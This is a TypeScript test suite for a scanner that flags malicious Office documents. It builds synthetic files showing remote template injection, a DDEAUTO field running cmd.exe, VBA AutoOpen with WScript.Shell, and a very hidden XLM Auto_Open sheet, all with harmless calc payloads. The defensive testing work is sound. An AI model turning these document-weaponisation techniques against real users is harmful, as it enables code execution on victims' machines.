import { test } from 'node:test';
import assert from 'node:assert/strict';
import { fieldInstructions, ooxmlScanner, remoteTarget, targetUrls } from './ooxml.ts';
import { makeOle, makeZip, runScanner, vbaProjectStreams } from './testing.ts';

const xml = (s: string) => Buffer.from(s, 'utf8');
const CONTENT_TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

function docx(parts: Record<string, string | Buffer>): Promise<Buffer> {
  const all: Record<string, Uint8Array> = {
    '[Content_Types].xml': xml(CONTENT_TYPES),
    '_rels/.rels': xml(`<Relationships><Relationship Id="rId1" Type="${REL}/officeDocument" Target="word/document.xml"/></Relationships>`),
    'word/document.xml': xml('<w:document><w:body><w:p><w:r><w:t>Hello</w:t></w:r></w:p></w:body></w:document>'),
  };
  for (const [k, v] of Object.entries(parts)) all[k] = typeof v === 'string' ? xml(v) : v;
  return makeZip(all);
}

test('remote template injection: the external attachedTemplate is reported and its URL emitted', async () => {
  const r = await runScanner(ooxmlScanner, await docx({
    'word/_rels/settings.xml.rels': `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="http://203.0.113.9/templates/invoice.dotm?a=1&amp;b=2" TargetMode="External"/></Relationships>`,
  }), { name: 'invoice.docx' });
  assert.deepEqual(r.heuristics, ['OOXML_EXTERNAL_REL']);
  assert.match(String(r.evidence[0].details), /^remote template: http:\/\/203\.0\.113\.9\/templates\/invoice\.dotm\?a=1&b=2$/);
  assert.deepEqual(r.evidence[0].data?.relationships, [{ part: 'word/_rels/settings.xml.rels', id: 'rId1', type: 'attachedTemplate', target: 'http://203.0.113.9/templates/invoice.dotm?a=1&b=2' }]);
  assert.deepEqual(r.children.map((c) => ['url' in c ? c.url : '', c.relation]), [['http://203.0.113.9/templates/invoice.dotm?a=1&b=2', 'link']]);
});

test('a local Normal.dotm template and external hyperlinks are not findings', async () => {
  const r = await runScanner(ooxmlScanner, await docx({
    'word/_rels/settings.xml.rels': `<Relationships><Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="file:///C:\\Users\\me\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm" TargetMode="External"/></Relationships>`,
    'word/_rels/document.xml.rels': `<Relationships><Relationship Id="rId5" Type="${REL}/hyperlink" Target="https://example.com/terms" TargetMode="External"/></Relationships>`,
  }));
  assert.deepEqual(r.heuristics, []);
  assert.deepEqual(r.children, []);
  assert.deepEqual(r.attributes.hyperlinks, { count: 1, first: ['https://example.com/terms'] });
});

test('target classification', () => {
  assert.equal(remoteTarget('\\\\198.51.100.1\\share\\t.dotm'), true);
  assert.equal(remoteTarget('file://server/share/t.dotm'), true);
  assert.equal(remoteTarget('file:///C:/t.dotm'), false);
  assert.equal(remoteTarget('mhtml:http://a.example/x.html!x-usc:http://a.example/x.html'), true);
  assert.deepEqual(targetUrls('mhtml:http://a.example/x.html!x-usc:http://b.example/y'), ['http://a.example/x.html', 'http://b.example/y']);
});

test('a DDEAUTO field split across runs in word/document.xml', async () => {
  const body = [
    '<w:document><w:body><w:p>',
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r>',
    '<w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\Windows\\\\System32\\\\cmd.exe "/k calc.exe"</w:instrText></w:r>',
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>DDE result text</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>',
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>',
    '</w:p></w:body></w:document>',
  ].join('');
  const r = await runScanner(ooxmlScanner, await docx({ 'word/document.xml': body }));
  assert.deepEqual(r.heuristics, ['DDE_FIELD']);
  assert.match(String(r.evidence[0].details), /^DDEAUTO c:.*cmd\.exe "\/k calc\.exe"$/);
  assert.deepEqual(fieldInstructions('<w:fldSimple w:instr=" DDE excel &quot;x&quot; "/>'), ['DDE excel "x"']);
  // A plain document has none.
  assert.deepEqual((await runScanner(ooxmlScanner, await docx({}))).heuristics, []);
});

test('a .docm: vbaProject.bin is analysed on the document without re-emitting parts', async () => {
  const vba = await makeOle(vbaProjectStreams([{ name: 'ThisDocument', source: 'Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\n  Set x = CreateObject("Microsoft.XMLHTTP")\r\n  CreateObject("WScript.Shell").Run "cmd /c calc"\r\nEnd Sub' }]));
  const r = await runScanner(ooxmlScanner, await docx({ 'word/vbaProject.bin': vba }), { name: 'report.docm' });
  assert.deepEqual(r.heuristics, ['VBA_MACROS', 'VBA_AUTOEXEC', 'VBA_SUSPICIOUS_CALL', 'VBA_AUTOEXEC_SUSPICIOUS', 'VBA_DOWNLOAD_EXECUTE']);
  assert.equal(r.evidence[0].data?.part, 'word/vbaProject.bin');
  assert.deepEqual(r.children, []);
  // A damaged project is a finding.
  const bad = await runScanner(ooxmlScanner, await docx({ 'word/vbaProject.bin': Buffer.from('not an OLE file at all') }));
  assert.deepEqual(bad.heuristics, ['UNPARSEABLE']);
});

test('an .xlsm with a very hidden Excel 4.0 macro sheet and Auto_Open', async () => {
  const r = await runScanner(ooxmlScanner, await makeZip({
    '[Content_Types].xml': xml(CONTENT_TYPES.replace('</Types>', '<Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>')),
    'xl/workbook.xml': xml('<workbook xmlns:r="r"><sheets><sheet name="Data" sheetId="1" r:id="rId1"/><sheet name="Auto" sheetId="2" state="veryHidden" r:id="rId2"/></sheets><definedNames><definedName name="_xlnm.Auto_Open">Auto!$A$1</definedName></definedNames></workbook>'),
    'xl/_rels/workbook.xml.rels': xml(`<Relationships><Relationship Id="rId1" Type="${REL}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="macrosheets/sheet1.xml"/></Relationships>`),
    'xl/worksheets/sheet1.xml': xml('<worksheet/>'),
    'xl/macrosheets/sheet1.xml': xml('<xm:macrosheet><sheetData><row><c><f>EXEC("calc")</f></c></row></sheetData></xm:macrosheet>'),
  }));
  assert.deepEqual(r.heuristics, ['XLM_MACRO_SHEET']);
  assert.deepEqual(r.evidence[0].data?.sheets, [{ name: 'Auto', state: 'very_hidden' }]);
  assert.equal(r.evidence[0].data?.autoOpen, true);
});

test('embedded objects are noted; zips that are not OOXML and damaged zips give nothing', async () => {
  const r = await runScanner(ooxmlScanner, await docx({ 'word/embeddings/oleObject1.bin': Buffer.alloc(10) }));
  assert.deepEqual(r.attributes.embeddings, ['word/embeddings/oleObject1.bin']);
  assert.deepEqual(await runScanner(ooxmlScanner, await makeZip({ 'a.txt': xml('a') })), { evidence: [], attributes: {}, children: [], heuristics: [] });
  const full = await docx({ 'word/_rels/settings.xml.rels': `<Relationships><Relationship Type="${REL}/attachedTemplate" Target="https://x.example/t.dotm" TargetMode="External"/></Relationships>` });
  for (const cut of [10, 100, full.length - 30]) await runScanner(ooxmlScanner, full.subarray(0, cut));
});
